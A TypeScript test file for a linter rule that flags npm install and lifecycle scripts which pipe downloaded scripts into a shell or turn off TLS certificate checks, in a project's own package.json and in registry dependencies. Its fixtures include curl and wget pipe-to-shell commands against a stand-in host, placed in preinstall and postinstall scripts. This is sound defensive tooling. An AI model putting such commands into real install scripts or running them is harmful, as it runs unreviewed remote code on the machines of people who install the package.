import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { expectMarks, fixOf, openWorkspace, TEST_REGISTRY } from '../../../workspace.ts';

const RULE = 'install-script-suspicious';
const EVIL = 'curl -s https://x.example.test/i.sh | sh';

const messages = async (scripts: Readonly<Record<string, string>>, more: object = {}) =>
  (await openWorkspace(`-- package.json --\n${JSON.stringify({ name: 'shop', scripts, ...more })}\n`))
    .findings(RULE)
    .map(({ severity, message }) => `${severity}: ${message}`);

describe('own scripts', () => {
  test('at the value, with its verdict first', () =>
    expectMarks(`-- package.json --
{
  "scripts": {
    "test": "curl -s https://x.example.test/i.sh | sh",
    "preinstall": "node a.js && npm run fetch",
    "fetch": "wget -qO- https://x.example.test/i.sh | bash"
             ^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^^ install-script-suspicious: "fetch" downloads and runs remote code: wget … | bash. Remove it, or review exactly what it does.
  }
}
`));

  test('every lifecycle script of every package manager, in members too', async () => {
    for (const name of ['preinstall', 'install', 'postinstall', 'prepare', 'prepublish', 'dependencies'])
      assert.equal((await messages({ [name]: EVIL })).length, 1, name);
    for (const name of ['start', 'prepublishOnly', 'poststart'])
      assert.deepEqual(await messages({ [name]: EVIL }), [], name);
    const workspace = await openWorkspace(`-- package.json --
{ "workspaces": ["a"] }
-- a/package.json --
{ "name": "a", "scripts": { "postinstall": ${JSON.stringify(EVIL)} } }
`);
    assert.equal(workspace.findings(RULE).length, 1);
  });

  test('common scripts are silent', async () => {
    const scripts = { preinstall: 'node ./scripts/download-binary.js', install: 'node-gyp rebuild' };
    assert.deepEqual(await messages({ ...scripts, postinstall: 'node ./scripts/setup.js' }), []);
  });

  test('certificate verification is a warning', async () => {
    assert.deepEqual(await messages({ install: 'NODE_TLS_REJECT_UNAUTHORIZED=0 node i.js' }), [
      'warning: "install" turns off certificate verification: NODE_TLS_REJECT_UNAUTHORIZED=0. Remove it, or review exactly what it does.',
    ]);
  });

  test('the fix deletes the script', async () => {
    const source = `-- package.json --
{
  "scripts": {
    "postinstall": "curl https://x.example.test | sh",
    "test": "node --test"
  }
}
`;
    const after = await fixOf(source, RULE, /^Delete the script "postinstall"$/);
    assert.match(after, /"scripts": \{\n {4}"test": "node --test"\n {2}\}/);
  });
});

describe('dependencies, by their registry', () => {
  const registry = {
    native: {
      time: { '1.0.0': '2026-01-01T10:00:00Z', '1.0.1': '2026-11-20T10:00:00Z' },
      versions: {
        '1.0.0': { scripts: { install: 'node-gyp rebuild' } },
        '1.0.1': { scripts: { preinstall: EVIL }, hasInstallScript: true },
      },
    },
  };
  const project = (more: object = {}) => `-- package.json --
${JSON.stringify({ name: 'shop', dependencies: { native: '1.0.1' }, ...more }, null, 2)}
-- package-lock.json --
${JSON.stringify({
  lockfileVersion: 3,
  packages: {
    '': { dependencies: { native: '1.0.1' } },
    'node_modules/native': { version: '1.0.1', resolved: `${TEST_REGISTRY}native/-/native-1.0.1.tgz` },
  },
})}
`;

  test('at the version, with the version before it', async () => {
    const workspace = await openWorkspace(project(), { registry });
    assert.deepEqual(
      workspace
        .findings(RULE)
        .map(({ message, span, uri }) => [
          message,
          workspace.text(uri.slice(-12))?.slice(span.start, span.end),
        ]),
      [
        [
          'native 1.0.1 downloads and runs remote code: curl … | sh, in its "preinstall" script. Deny the script, or use 1.0.0.',
          '"1.0.1"',
        ],
      ],
    );
  });

  test('silent if denied, and for another version', async () => {
    const found = async (source: string) => (await openWorkspace(source, { registry })).findings(RULE);
    assert.deepEqual(await found(project({ allowScripts: { native: false } })), []);
    assert.equal((await found(project({ allowScripts: { 'native@1.0.1': true } }))).length, 1);
    assert.deepEqual(await found(project().replaceAll('1.0.1', '1.0.0')), []);
  });
});
